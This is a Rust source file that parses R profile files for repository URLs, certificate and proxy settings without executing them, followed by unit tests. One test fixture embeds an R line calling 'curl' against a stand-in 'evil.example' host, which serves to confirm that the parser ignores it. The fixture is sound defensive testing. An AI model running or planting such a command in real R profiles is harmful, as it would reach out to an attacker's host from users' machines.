//! R's configuration, limited to the repositories. Its files are programs of R: they are searched,
//! and never run.

use std::path::{Path, PathBuf};

use super::super::RegistrySource;
use super::super::registry_source::host_texts;

/// The variable that names a file with certificate authorities.
const CERTIFICATES: &str = "CURL_CA_BUNDLE";

/// The settings of the host's R.
pub(super) fn of_host() -> RegistrySource {
    let variable = |name: &str| std::env::var(name).ok().filter(|value| !value.is_empty());
    read(variable, host_texts(files(variable)))
}

/// The files that R runs when it starts, the lowest priority first.
fn files(variable: impl Fn(&str) -> Option<String>) -> Vec<PathBuf> {
    let named = |name: &str| variable(name).map(PathBuf::from);
    let home = || named("HOME").map(|home| home.join(".Rprofile"));
    let machine = named("R_PROFILE").unwrap_or_else(|| "/etc/R/Rprofile.site".into());
    std::iter::once(machine)
        .chain(named("R_PROFILE_USER").or_else(home))
        .collect()
}

fn read(
    variable: impl Fn(&str) -> Option<String> + Copy,
    texts: impl IntoIterator<Item = String>,
) -> RegistrySource {
    let found = texts.into_iter().map(|text| repositories(&text));
    let last = found.filter(|urls| !urls.is_empty()).last();
    let mut source = last.map_or_else(RegistrySource::default, RegistrySource::cran);
    if let Some(file) = variable(CERTIFICATES) {
        source = source.with_certificates(CERTIFICATES, Path::new(&file));
    }
    source.with_proxies(variable)
}

/// The addresses in the lines that set repositories, such as `options(repos = c(CRAN = "…"))` and
/// `r["CRAN"] <- "…"`.
fn repositories(text: &str) -> Vec<String> {
    let lines = text.lines().filter(|line| {
        !line.trim_start().starts_with('#') && (line.contains("repos") || line.contains("CRAN"))
    });
    let strings = lines.flat_map(|line| line.split(['"', '\'']).skip(1).step_by(2));
    let is_address = |text: &&str| {
        let schemes = ["https://", "http://", "file://"];
        schemes.iter().any(|scheme| text.starts_with(scheme)) && !text.contains(' ')
    };
    strings.filter(is_address).map(str::to_owned).collect()
}

#[cfg(test)]
mod tests {
    use super::super::REPOSITORIES;
    use super::*;

    #[test]
    fn repositories_are_those_of_the_last_file() {
        let variable = |name: &str| match name {
            CERTIFICATES => Some("/etc/ca.pem".to_owned()),
            "https_proxy" => Some("http://proxy.example:3128".to_owned()),
            _ => None,
        };
        let machine = "local({r <- getOption(\"repos\"); r[\"CRAN\"] <- \"https://machine.example\"; options(repos = r)})\n";
        let user = "# options(repos = \"https://old.example\")\nsystem(\"curl https://evil.example\")\n\
                    options(repos = c(CRAN = 'https://u:p@a.example', own = \"https://b.example/r\"))\n";
        let source = read(variable, [machine.to_owned(), user.to_owned()]);
        let expected = "https://u:p@a.example https://b.example/r";
        assert_eq!(source.environment[REPOSITORIES], expected);
        assert_eq!(source.certificates, [PathBuf::from("/etc/ca.pem")]);
        assert!(source.environment.contains_key("https_proxy"));
        assert!(!format!("{source:?}").contains("u:p"), "{source:?}");
        let source = read(|_| None, [machine.to_owned(), "options(digits = 7)".into()]);
        assert_eq!(source.environment[REPOSITORIES], "https://machine.example");
        assert!(read(|_| None, [String::new()]).environment.is_empty());
    }

    #[test]
    fn files_are_those_of_r() {
        let home = |name: &str| (name == "HOME").then(|| "/home/me".to_owned());
        let expected = ["/etc/R/Rprofile.site", "/home/me/.Rprofile"];
        assert_eq!(files(home), expected.map(PathBuf::from));
        let own = |name: &str| (name == "R_PROFILE_USER").then(|| "/x".to_owned());
        assert_eq!(files(own)[1], PathBuf::from("/x"));
    }
}
